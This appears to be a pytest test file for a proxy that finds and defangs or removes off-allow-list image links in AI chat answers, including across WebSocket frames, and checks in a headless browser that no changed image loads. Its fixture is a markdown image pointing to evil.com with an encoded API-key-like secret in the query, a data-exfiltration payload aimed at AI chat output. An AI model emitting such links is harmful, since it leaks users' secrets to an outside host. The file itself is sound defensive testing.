"""Which answers links are looked for in, what is recorded of them, and that a browser loads no defanged image."""

from __future__ import annotations

import asyncio

import pytest
from aiohttp import web

from sidecar.errors import Problems
from sidecar.redaction.filters import build_redaction
from sidecar.redaction.links import AllowedHosts, OnOther
from sidecar.responses.filters import RouteResponseFilters
from sidecar.responses.link_filter import MAX_EVENTS, AnswerLinks, LinkRules
from sidecar.vocabulary import Event, Outcome
from tests.support.browser import chromium
from tests.support.exchanges import exchange

EVIL = "![x](https://evil.com/?d=c2stcHJvai1BYjlfejAxMjM0NTY3ODk)"
DEFANGED = EVIL.replace("https:", "hxxp:https:")


class Sink:
    def __init__(self):
        self.said = []

    def record(self, event):
        self.said.append((event.event, event.outcome, event.detail))

    def served(self, served): ...


class Head:
    def __init__(self, kind):
        self.index = {b"content-type": kind}


def filters(sink, on_other=OnOther.DEFANG, *, pages=False):
    allowed = AllowedHosts(["docs.example.com"])
    links = AnswerLinks(LinkRules(allowed, allowed, on_other, pages), sink)
    return RouteResponseFilters(build_redaction(None, (), Problems()), None, (), sink, links=links)


def passed(found, kind, *chunks):
    stream = found.for_answer(exchange("POST", "/chat"), Head(kind))
    return None if stream is None else b"".join([*map(stream.feed, chunks), stream.finish()])


@pytest.mark.parametrize(
    ("on_other", "outcome", "shown"),
    [
        (OnOther.OBSERVE, Outcome.OBSERVED, EVIL),
        (OnOther.DEFANG, Outcome.CHANGED, DEFANGED),
        (OnOther.REMOVE, Outcome.CHANGED, "![x](about:blank#removed)"),
    ],
)
def test_what_is_recorded_and_passed(on_other, outcome, shown):
    sink = Sink()
    assert (
        passed(filters(sink, on_other), b"text/plain", b"a ", EVIL.encode(), EVIL.encode())
        == f"a {shown}{shown}".encode()
    )
    detail = {"host": "evil.com", "kind": "image", "done": on_other.value, "high_entropy": True}
    assert sink.said == [(Event.LINK_REMOVED, outcome, detail)], "each host once, without path and query"


def test_events_of_one_answer_are_bounded():
    sink = Sink()
    passed(filters(sink), b"text/plain", *(b"![](https://h%d.com/) " % at for at in range(100)))
    assert len(sink.said) == MAX_EVENTS


@pytest.mark.parametrize(
    ("kind", "pages", "read"),
    [
        (b"text/html; charset=utf-8", False, False),
        (b"text/html", True, True),
        (b"application/json", False, True),
        (b"text/event-stream", False, True),
        (b"text/javascript", True, False),
        (b"image/png", True, False),
    ],
)
def test_which_answers_are_read(kind, pages, read):
    found = filters(Sink(), pages=pages)
    assert (passed(found, kind, b"x") is not None) is read
    assert found.passes_whole(exchange("POST", "/chat"), Head(kind), b"", b"{}") is not read


def test_messages_of_a_socket_are_read_over_their_borders():
    sink = Sink()
    frames = filters(sink).frames(exchange("GET", "/ws"))
    sent = [frames.take(piece.encode(), binary=False) for piece in ("![x](htt", "ps://evil.com/", "a)")]
    assert sent == [[], [(b"![x](hxxp:https://evil.com/", False), (b"", False)], [(b"a)", False)]]
    assert frames.rest() == []
    assert [event for event, _, _ in sink.said] == [Event.LINK_REMOVED]


def test_a_browser_does_not_load_what_was_changed():
    asked = []

    async def image(request):
        asked.append(request.path)
        return web.Response(status=404)

    async def run():
        app = web.Application()
        app.router.add_get("/{name}", image)
        runner = web.AppRunner(app)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        port = site._server.sockets[0].getsockname()[1]
        text = f'<img src="http://127.0.0.1:{port}/NAME"><p style="background:url(http:/127.0.0.1:{port}/NAME)">x</p>'
        texts = [text.replace("NAME", "untouched").encode()]
        changed = text.replace("NAME", "changed").encode()
        texts += [
            passed(filters(Sink(), on_other, pages=True), b"text/html", changed)
            for on_other in (OnOther.DEFANG, OnOther.REMOVE)
        ]
        async with chromium() as browser:
            page = await browser.new_page()
            for each in texts:
                await page.set_content(each.decode(), wait_until="networkidle")
        await runner.cleanup()

    asyncio.run(run())
    assert set(asked) == {"/untouched"}
